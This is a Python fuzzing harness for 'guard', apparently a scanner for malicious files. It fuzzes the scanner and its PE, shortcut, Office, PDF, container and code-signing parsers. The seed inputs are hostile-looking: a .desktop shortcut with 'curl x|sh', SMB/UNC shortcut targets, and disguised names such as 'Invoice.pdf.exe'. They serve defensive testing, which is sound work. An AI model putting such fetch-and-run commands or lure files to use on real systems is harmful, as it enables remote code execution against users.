#!/usr/bin/env python3
"""Fuzz targets for guard: the scanner entry point and each parser adapter.

Each target takes the fuzzer's bytes and fails (raises ``TargetFailure``, or any
exception it lets through) only for an outcome the scanner must never have: an
exception out of a function documented to never raise, an exception the scanner does not
catch (``inspect_pe`` may raise ``pefile.PEFormatError`` and nothing else), a verdict
without an answer, or a container walk past its budget. A hang or a runaway allocation
is caught by the fuzzer itself (``-timeout``, ``-rss_limit_mb``).

Targets whose input has several kinds take the kind from the first byte (``kind_of``),
so one corpus covers them all and a saved input replays exactly.

    python bench/fuzz/targets.py <target> [libFuzzer flags] [corpus dirs]   # atheris
    python bench/fuzz/run.py --target pe --seconds 60                      # usually

Importable without atheris: tests/hostile/test_inputs.py replays saved crashes through
``replay``.
"""

from __future__ import annotations

import atexit
import json
import os
import shutil
import sys
import tempfile
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[2]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

# The first byte picks what the input is claimed or treated as.
SCANNER_NAMES = ("Invoice.pdf", "setup.exe", "Archive.zip", "Report.docx", "Report.doc",
                 "Shortcut.lnk", "Delivery.iso", "Archive.7z", "Archive.rar", "logs.gz",
                 "Photo.jpg", "notes.txt", "Contract.pdf.lnk", "Budget.xlsm", "page.url",
                 "run.desktop", "noext", "Invoice.pdf.exe")
CONTAINER_KINDS = ("zip", "ooxml", "7z", "rar", "tar", "cab", "gzip", "bzip2", "xz", "iso",
                   "ole", "pdf", "jar", "odf", "epub", "udf")
SHORTCUT_KINDS = ("lnk", "url", "desktop", "scf", "webloc")
OFFICE_KINDS = ("ole", "ooxml")
FILETYPE_EXTS = ("", "pdf", "exe", "txt", "docx", "zip", "lnk", "json", "js", "md", "iso")


class TargetFailure(AssertionError):
    """An outcome a target must never have."""


def kind_of(data: bytes, kinds: tuple[str, ...]) -> tuple[str, bytes]:
    if not data:
        return kinds[0], b""
    return kinds[data[0] % len(kinds)], data[1:]


# --- the targets -------------------------------------------------------------------------

_scanner = None
_tmpdir: str | None = None


def _get_scanner():
    global _scanner, _tmpdir
    if _scanner is None:
        from guard.scanner import Scanner, ScanOptions, load_rules
        _scanner = Scanner(load_rules(), ScanOptions(yara_timeout_s=5.0))
        shm = "/dev/shm" if os.access("/dev/shm", os.W_OK) else tempfile.gettempdir()
        for old in Path(shm).glob("guard-fuzz-*"):     # left by processes libFuzzer ended
            pid = old.name.rsplit("-", 1)[-1]
            if pid.isdigit() and not os.path.exists(f"/proc/{pid}"):
                shutil.rmtree(old, ignore_errors=True)
        _tmpdir = os.path.join(shm, f"guard-fuzz-{os.getpid()}")
        os.makedirs(_tmpdir, exist_ok=True)
        atexit.register(shutil.rmtree, _tmpdir, True)
    return _scanner


def scanner_file(data: bytes) -> tuple[str, bytes]:
    """What the scanner target scans: (file name, content)."""
    return kind_of(data, SCANNER_NAMES)


def target_scanner(data: bytes) -> None:
    """bytes -> Scanner.scan_file on a file: never raises, always a verdict, JSON-ready."""
    scanner = _get_scanner()
    name, content = scanner_file(data)
    path = os.path.join(_tmpdir, name)
    with open(path, "wb") as fh:
        fh.write(content)
    try:
        v = scanner.scan_file(path)
    finally:
        os.unlink(path)
    if v.error is not None:
        raise TargetFailure(f"a readable file got no verdict: {v.error}")
    from guard.scanner import INTERNAL_ERROR
    for r in v.reasons:
        if r.detail.startswith(INTERNAL_ERROR):      # scan_file caught a parser's exception
            raise TargetFailure(r.detail)
    if any(not r.message for r in v.reasons):
        raise TargetFailure(f"a reason without a message: {v.reasons}")
    json.dumps(v.to_dict())
    if "container" in v.details:
        from guard.identify.containers import Limits
        if v.details["container"]["expanded_bytes"] > Limits().max_expanded_bytes:
            raise TargetFailure("container walk past its expansion budget")


def target_pe(data: bytes) -> None:
    """inspect_pe may raise pefile.PEFormatError (the scanner catches it), nothing else."""
    import pefile

    from guard.identify.pe import inspect_pe
    try:
        facts = inspect_pe(data)
    except pefile.PEFormatError:
        return
    json.dumps(facts.to_dict())


def target_shortcut(data: bytes) -> None:
    from guard.identify.shortcut import inspect_shortcut
    kind, body = kind_of(data, SHORTCUT_KINDS)
    facts = inspect_shortcut(body, kind)
    json.dumps(facts.to_dict())


def target_office(data: bytes) -> None:
    from guard.identify.office import inspect_macros
    kind, body = kind_of(data, OFFICE_KINDS)
    inspect_macros(body, kind, "fuzz")


def target_pdf(data: bytes) -> None:
    from guard.identify.containers import Limits, walk_container
    from guard.identify.pdf import inspect_pdf
    inspect_pdf(data)
    facts = walk_container(data, "pdf", Limits())
    if facts.expanded_bytes > Limits().max_expanded_bytes:
        raise TargetFailure("pdf attachments past the expansion budget")


def target_containers(data: bytes) -> None:
    from guard.identify.containers import Limits, walk_container
    kind, body = kind_of(data, CONTAINER_KINDS)
    limits = Limits(max_expanded_bytes=64 << 20, max_member_bytes=16 << 20)
    facts = walk_container(body, kind, limits, lambda t, n: True)
    if facts.expanded_bytes > limits.max_expanded_bytes:
        raise TargetFailure(f"{kind}: expanded {facts.expanded_bytes} bytes past the budget")
    if len(facts.members) > limits.max_members:
        raise TargetFailure(f"{kind}: {len(facts.members)} members past the limit")


def target_filetype(data: bytes) -> None:
    from guard.identify.filetype import identify
    ext, body = kind_of(data, FILETYPE_EXTS)
    ft = identify(body, ext)
    ft.to_dict()


SIGNER_KINDS = ("pe", "macho", "macho-fat", "")


def target_signer(data: bytes) -> None:
    """signers_of (Authenticode via signify, Mach-O code signatures): launch control and
    `guard allow` run it on files attackers wrote. Never raises."""
    from guard.identify.signer import signers_of
    kind, body = kind_of(data, SIGNER_KINDS)
    signers_of(body, kind)


TARGETS: dict[str, Callable[[bytes], None]] = {
    "scanner": target_scanner, "pe": target_pe, "shortcut": target_shortcut,
    "office": target_office, "pdf": target_pdf, "containers": target_containers,
    "filetype": target_filetype, "signer": target_signer,
}

# Libraries whose code the coverage feedback should see (imported inside the
# instrumentation block, so atheris rewrites their bytecode).
INSTRUMENTED = ("guard", "pefile", "olefile", "oletools", "LnkParse3", "pypdf", "py7zr",
                "pycdlib", "rarfile", "magic", "signify")


def replay(target: str, data: bytes) -> None:
    """Run a saved input through its target (for the regression tests)."""
    TARGETS[target](data)


_KIND_FILE = {"zip": "x.zip", "ooxml": "x.docx", "7z": "x.7z", "rar": "x.rar", "tar": "x.tar",
              "cab": "x.cab", "gzip": "x.gz", "bzip2": "x.bz2", "xz": "x.xz", "iso": "x.iso",
              "ole": "x.doc", "pdf": "x.pdf", "jar": "x.jar", "odf": "x.odt", "epub": "x.epub",
              "udf": "x.iso", "lnk": "x.lnk", "url": "x.url", "desktop": "x.desktop",
              "scf": "x.scf", "webloc": "x.webloc"}


def as_file(target: str, data: bytes) -> tuple[str, bytes]:
    """The file a saved input of *target* amounts to, for a scan: (name, content)."""
    if target == "scanner":
        return scanner_file(data)
    if target in ("pe", "pdf"):
        return ("x.exe" if target == "pe" else "x.pdf"), data
    if target == "signer":
        kind, body = kind_of(data, SIGNER_KINDS)
        return ("x.dylib" if kind.startswith("macho") else "x.exe"), body
    kinds = {"shortcut": SHORTCUT_KINDS, "office": OFFICE_KINDS,
             "containers": CONTAINER_KINDS}.get(target)
    if kinds is not None:
        kind, body = kind_of(data, kinds)
        return _KIND_FILE[kind], body
    ext, body = kind_of(data, FILETYPE_EXTS)
    return (f"x.{ext}" if ext else "x"), body


def seed_files(target: str) -> list[tuple[str, bytes]]:
    """Starting inputs for *target*, from the corpus (with the kind byte in front)."""
    corpus = REPO / "tests" / "corpus"
    files = sorted(p for p in corpus.rglob("*") if p.is_file() and p.suffix not in (".tsv", ".md"))
    by_ext: dict[str, list[Path]] = {}
    for p in files:
        by_ext.setdefault(p.suffix.lower().lstrip("."), []).append(p)
    out: list[tuple[str, bytes]] = []

    def add(label: str, data: bytes, prefix: int | None = None) -> None:
        out.append((label, (bytes([prefix]) if prefix is not None else b"") + data))

    if target == "scanner":
        for p in files:
            ext = p.suffix.lower()
            pick = next((i for i, n in enumerate(SCANNER_NAMES) if n.lower().endswith(ext)), 1)
            add(p.name, p.read_bytes(), pick)
    elif target == "pe":
        for p in (corpus / "executables/pe").iterdir():
            add(p.name, p.read_bytes())
    elif target == "shortcut":
        for p in (corpus / "executables/lnk").iterdir():
            add(p.name, p.read_bytes(), 0)
        add("url", b"[InternetShortcut]\nURL=file://host/share/x.exe\n", 1)
        add("desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n", 2)
        add("scf", b"[Shell]\nCommand=2\nIconFile=\\\\host\\share\\x.ico\n", 3)
        add("webloc", b'<?xml version="1.0"?><plist><dict><key>URL</key><string>smb://h/x'
                      b'</string></dict></plist>', 4)
    elif target == "office":
        for ext in ("doc", "xls", "ppt", "msg"):
            for p in by_ext.get(ext, ()):
                add(p.name, p.read_bytes(), 0)
        for ext in ("docx", "docm", "xlsx", "xlsm", "pptx"):
            for p in by_ext.get(ext, ()):
                add(p.name, p.read_bytes(), 1)
    elif target == "pdf":
        for p in by_ext.get("pdf", ()):
            add(p.name, p.read_bytes())
        sys.path.insert(0, str(REPO / "tests"))
        import builders
        add("attachment.pdf", builders.pdf_with_attachment("a.exe", builders.pe32()))
    elif target == "containers":
        kinds = {"zip": "zip", "docx": "ooxml", "xlsx": "ooxml", "7z": "7z", "rar": "rar",
                 "tar": "tar", "cab": "cab", "gz": "gzip", "bz2": "bzip2", "xz": "xz",
                 "iso": "iso", "doc": "ole", "msg": "ole", "pdf": "pdf", "odt": "odf",
                 "epub": "epub"}
        for ext, kind in kinds.items():
            for p in by_ext.get(ext, ()):
                add(p.name, p.read_bytes(), CONTAINER_KINDS.index(kind))
    elif target == "signer":
        for p in (corpus / "executables/pe").iterdir():
            add(p.name, p.read_bytes(), 0)
        for p in (corpus / "executables/macho").iterdir():
            add(p.name, p.read_bytes(), 1)
    elif target == "filetype":
        for p in files:
            ext = p.suffix.lower().lstrip(".")
            add(p.name, p.read_bytes()[:65536],
                FILETYPE_EXTS.index(ext) if ext in FILETYPE_EXTS else 0)
    return out


def main(argv: list[str]) -> None:
    """Coverage-guided fuzzing of one target with atheris (libFuzzer flags follow)."""
    import atheris

    if len(argv) < 2 or argv[1] not in TARGETS:
        raise SystemExit(f"usage: targets.py <{'|'.join(TARGETS)}> [libFuzzer flags]")
    name = argv[1]
    with atheris.instrument_imports(include=list(INSTRUMENTED)):
        # Imported here so that atheris rewrites their bytecode for coverage.
        import LnkParse3  # noqa: F401
        import olefile  # noqa: F401
        import pefile  # noqa: F401
        import py7zr  # noqa: F401
        import pycdlib  # noqa: F401
        import pypdf  # noqa: F401
        import rarfile  # noqa: F401
        from oletools import oleobj, olevba  # noqa: F401

        import guard.identify.containers
        import guard.identify.office
        import guard.identify.shortcut
        import guard.identify.signer
        import guard.scanner  # noqa: F401
    import logging
    import warnings
    warnings.simplefilter("ignore")
    logging.disable(logging.CRITICAL)
    if name == "scanner":
        _get_scanner()
    target = TARGETS[name]
    atheris.Setup([argv[0]] + argv[2:], target)
    atheris.Fuzz()


if __name__ == "__main__":
    main(sys.argv)
